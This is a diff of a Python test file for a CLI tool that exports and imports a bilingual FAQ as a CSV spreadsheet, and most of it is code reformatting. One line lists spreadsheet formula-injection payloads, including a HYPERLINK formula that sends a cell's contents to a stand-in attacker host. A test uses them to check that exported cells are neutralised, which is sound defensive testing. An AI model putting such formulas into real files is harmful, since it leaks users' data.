@@ -1,4 +1,5 @@
 """`qicc faq export` / `qicc faq import`: a spreadsheet round trip that keeps every field and byte."""
+
 from __future__ import annotations
 
 import csv
@@ -68,9 +69,16 @@ def test_import_shows_the_changes_then_writes_a_file_that_round_trips_byte_for_b
         header = rows[0]
         rows = [row for row in rows if row[0] != second.id]
         rows[1][header.index("answer_zh")] = new_answer
-        kayak = {"id": "kayak", "questions_en": "Where can I rent a kayak?\nkayak rental",
-                 "questions_zh": "哪里可以租皮划艇？\n租皮划艇", "answer_en": "Ask at the beach.",
-                 "answer_zh": "请在海滩询问。", "tags": "sport", "links": "", "reviewed": "2025-02-01"}
+        kayak = {
+            "id": "kayak",
+            "questions_en": "Where can I rent a kayak?\nkayak rental",
+            "questions_zh": "哪里可以租皮划艇？\n租皮划艇",
+            "answer_en": "Ask at the beach.",
+            "answer_zh": "请在海滩询问。",
+            "tags": "sport",
+            "links": "",
+            "reviewed": "2025-02-01",
+        }
         return [*rows, [kayak[column] for column in header]]
 
     edit_sheet(sheet, change)
@@ -84,8 +92,10 @@ def test_import_shows_the_changes_then_writes_a_file_that_round_trips_byte_for_b
     assert main(["faq", "import", str(sheet), "--yes"]) == 0
     after = load(data_dir / "faq.yml")
     assert after.get(first.id).answer["zh"] == new_answer
-    assert after.get("kayak").questions == {"en": ("Where can I rent a kayak?", "kayak rental"),
-                                            "zh": ("哪里可以租皮划艇？", "租皮划艇")}
+    assert after.get("kayak").questions == {
+        "en": ("Where can I rent a kayak?", "kayak rental"),
+        "zh": ("哪里可以租皮划艇？", "租皮划艇"),
+    }
     assert after.get(second.id) is None
     written = (data_dir / "faq.yml").read_text(encoding="utf-8")
     assert written.startswith((ROOT / "data" / "faq.yml").read_text(encoding="utf-8").split("\nfaq:")[0])
@@ -121,15 +131,23 @@ def test_a_sheet_saved_in_another_encoding_gets_a_clear_message(data_dir, tmp_pa
         read_csv(sheet, {})
 
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1+1", "-2+3", "@SUM(A1:A2)"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+1+1", "-2+3", "@SUM(A1:A2)"]
 
 
 def test_cells_that_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_read_back(data_dir, tmp_path):
     faq = load(data_dir / "faq.yml")
     entry = faq.entries[0]
-    poisoned = faq.__class__(**{**faq.__dict__, "entries": tuple(
-        e.__class__(**{**e.__dict__, "answer": {"en": FORMULAS[i % 4], "zh": e.answer["zh"]}})
-        if e is entry or i < 4 else e for i, e in enumerate(faq.entries))})
+    poisoned = faq.__class__(
+        **{
+            **faq.__dict__,
+            "entries": tuple(
+                e.__class__(**{**e.__dict__, "answer": {"en": FORMULAS[i % 4], "zh": e.answer["zh"]}})
+                if e is entry or i < 4
+                else e
+                for i, e in enumerate(faq.entries)
+            ),
+        }
+    )
     sheet = tmp_path / "faq.csv"
     sheet.write_text(to_csv(poisoned), encoding="utf-8-sig")
     rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"), newline="")))
